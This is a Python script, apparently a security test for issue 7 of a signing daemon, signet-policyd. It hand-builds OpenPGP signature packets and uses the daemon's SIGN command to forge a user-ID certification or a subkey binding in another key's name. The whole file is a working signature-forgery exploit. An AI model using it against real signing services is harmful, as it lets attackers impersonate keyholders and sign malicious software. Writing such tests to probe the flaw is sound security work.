#!/usr/bin/env python3
"""The two tricks of issue 7, done by hand with signatures from
signet-policyd's SIGN (as the calling user, through gpg-connect-agent):

  forge.py certify SOCKET PROJECT ISSUER_FPR KEY.gpg OUT.gpg
      a positive certification (0x13) of KEY's first user ID in the name
      of ISSUER_FPR; OUT = KEY's packets with it after the user ID.
  forge.py bind SOCKET PROJECT ISSUER_FPR CERT.gpg KEY.gpg KEYGRIP OUT.gpg
      KEY's primary key as a signing subkey of CERT's primary: a subkey
      binding (0x18) in the name of ISSUER_FPR whose embedded back-signature
      (0x19) the caller's own gpg-agent makes with KEYGRIP (GNUPGHOME);
      OUT = CERT's packets + the subkey + the binding.

Whether gpg accepts the result is the test's question: it does when SIGN
uses a key that certifies (Signet 0.1's primary), never when it uses a
signing subkey.  RFC 4880 §5.2.3 (v4 signature), §5.2.4 (what key
signatures hash), §4.2 (packet headers).  Exit 0 once OUT is written."""
import hashlib, os, re, struct, subprocess, sys, tempfile, time


def packets(buf):
    i, out = 0, []
    while i < len(buf):
        ctb = buf[i]
        if not ctb & 0x80:
            raise ValueError("not an OpenPGP packet at offset %d" % i)
        if ctb & 0x40:
            tag, o = ctb & 0x3F, buf[i + 1]
            if o < 192:
                ln, hl = o, 2
            elif o < 224:
                ln, hl = ((o - 192) << 8) + buf[i + 2] + 192, 3
            elif o == 255:
                ln, hl = struct.unpack(">I", buf[i + 2:i + 6])[0], 6
            else:
                raise ValueError("partial length")
        else:
            tag, lt = (ctb >> 2) & 0xF, ctb & 3
            n = {0: 1, 1: 2, 2: 4}[lt]
            ln, hl = int.from_bytes(buf[i + 1:i + 1 + n], "big"), 1 + n
        out.append((tag, buf[i:i + hl + ln], buf[i + hl:i + hl + ln]))
        i += hl + ln
    return out


def new_packet(tag, body):
    n = len(body)
    if n < 192:
        hdr = bytes([n])
    elif n < 8384:
        n -= 192
        hdr = bytes([(n >> 8) + 192, n & 0xFF])
    else:
        hdr = b"\xff" + struct.pack(">I", n)
    return bytes([0xC0 | tag]) + hdr + body


def subpacket(typ, data):
    n = len(data) + 1
    if n < 192:
        return bytes([n, typ]) + data
    n -= 192
    return bytes([(n >> 8) + 192, n & 0xFF, typ]) + data


def key_hash(body):
    return b"\x99" + struct.pack(">H", len(body)) + body


def fpr(body):
    return hashlib.sha1(key_hash(body)).digest()


def sig_head(sigtype, hashed):
    return bytes([4, sigtype, 1, 8]) + struct.pack(">H", len(hashed)) + hashed


def digest_of(prefix, head):
    return hashlib.sha256(prefix + head + b"\x04\xff" + struct.pack(">I", len(head))).digest()


def sig_body(head, digest, issuer, value):
    value = value.lstrip(b"\x00")
    mpi = struct.pack(">H", int.from_bytes(value, "big").bit_length()) + value
    unhashed = subpacket(16, issuer[-8:])
    return head + struct.pack(">H", len(unhashed)) + unhashed + digest[:2] + mpi


def policyd_sign(sock, project, digest):
    with tempfile.TemporaryDirectory() as d:
        out = os.path.join(d, "sig")
        r = subprocess.run(["gpg-connect-agent", "-S", sock, "/datafile " + out,
                            "SIGN --hash=sha256 %s %s" % (project, digest.hex()), "/bye"],
                           capture_output=True, text=True)
        if not os.path.exists(out) or os.path.getsize(out) == 0:
            sys.exit("SIGN refused: " + r.stdout + r.stderr)
        return open(out, "rb").read()


def agent_sign(grip, digest):
    r = subprocess.run(["gpg-connect-agent", "SIGKEY " + grip, "SETHASH --hash=sha256 " + digest.hex(),
                        "PKSIGN", "/bye"], capture_output=True)
    # The D lines carry the S-expression, percent-escaped (Assuan).
    data = b"".join(l[2:] for l in r.stdout.split(b"\n") if l.startswith(b"D "))
    data = re.sub(rb"%([0-9A-Fa-f]{2})", lambda x: bytes([int(x.group(1), 16)]), data)
    m = re.search(rb"\(1:s(\d+):", data)
    if not m:
        sys.exit("gpg-agent PKSIGN failed: %r" % r.stdout[-200:])
    return data[m.end():m.end() + int(m.group(1))]


def certify(sock, project, issuer, keyfile):
    pk = packets(open(keyfile, "rb").read())
    pub = next(b for t, _, b in pk if t == 6)
    ui = next(i for i, (t, _, _) in enumerate(pk) if t == 13)
    uid = pk[ui][2]
    hashed = subpacket(2, struct.pack(">I", int(time.time()))) + subpacket(33, b"\x04" + issuer)
    head = sig_head(0x13, hashed)
    digest = digest_of(key_hash(pub) + b"\xb4" + struct.pack(">I", len(uid)) + uid, head)
    body = sig_body(head, digest, issuer, policyd_sign(sock, project, digest))
    j = ui + 1
    while j < len(pk) and pk[j][0] == 2:
        j += 1
    return b"".join(p for _, p, _ in pk[:j]) + new_packet(2, body) + b"".join(p for _, p, _ in pk[j:])


def bind(sock, project, issuer, certfile, keyfile, grip):
    cert = open(certfile, "rb").read()
    primary = next(b for t, _, b in packets(cert) if t == 6)
    sub = next(b for t, _, b in packets(open(keyfile, "rb").read()) if t == 6)
    now = struct.pack(">I", int(time.time()))
    prefix = key_hash(primary) + key_hash(sub)
    # The back-signature, by the new subkey (the caller holds its secret).
    bhead = sig_head(0x19, subpacket(2, now) + subpacket(33, b"\x04" + fpr(sub)))
    bdigest = digest_of(prefix, bhead)
    back = sig_body(bhead, bdigest, fpr(sub), agent_sign(grip, bdigest))
    hashed = subpacket(2, now) + subpacket(27, b"\x02") + subpacket(33, b"\x04" + issuer) + subpacket(32, back)
    head = sig_head(0x18, hashed)
    digest = digest_of(prefix, head)
    body = sig_body(head, digest, issuer, policyd_sign(sock, project, digest))
    return cert + new_packet(14, sub) + new_packet(2, body)


def main():
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "certify" and len(args) == 5:
        data = certify(args[0], args[1], bytes.fromhex(args[2]), args[3])
    elif mode == "bind" and len(args) == 7:
        data = bind(args[0], args[1], bytes.fromhex(args[2]), args[3], args[4], args[5])
    else:
        sys.exit(__doc__)
    open(args[-1], "wb").write(data)


main()
